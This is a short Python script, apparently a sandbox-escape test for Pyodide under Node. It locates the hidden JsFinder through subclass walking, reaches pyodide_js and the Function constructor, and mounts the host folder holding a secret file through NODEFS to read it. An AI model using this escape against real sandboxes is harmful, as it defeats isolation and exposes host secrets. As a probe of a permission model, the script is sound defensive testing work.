# Route (gets past the Python-level blocks): Pyodide's JsFinder class still exists; the `jsfinder`
# instance in its methods' globals keeps the registered JavaScript modules, including `pyodide_js`.
# With it, mount the host folder that holds the secret into Emscripten's file system through NODEFS
# and read it with plain open(). NODEFS calls Node's fs, which the permission model must refuse.
import os


def find_jsfinder():
    seen, todo = set(), [object]
    while todo:
        cls = todo.pop()
        try:
            subclasses = type.__subclasses__(cls)
        except TypeError:
            continue
        for sub in subclasses:
            if sub not in seen:
                seen.add(sub)
                todo.append(sub)
                if sub.__name__ == "JsFinder":
                    return sub.find_spec.__globals__["jsfinder"]
    raise LookupError("JsFinder is gone")


pyodide_js = find_jsfinder().jsproxies["pyodide_js"]
FS = pyodide_js.FS
Function = FS.constructor.constructor
options = Function("root", "return { root }")(os.path.dirname(SECRET_FILE))
FS.mkdirTree("/mnt/host")
FS.mount(FS.filesystems.NODEFS, options, "/mnt/host")
with open(f"/mnt/host/{os.path.basename(SECRET_FILE)}") as mounted:
    print(f"ESCAPED: read the host's secret file through NODEFS: {mounted.read()}")
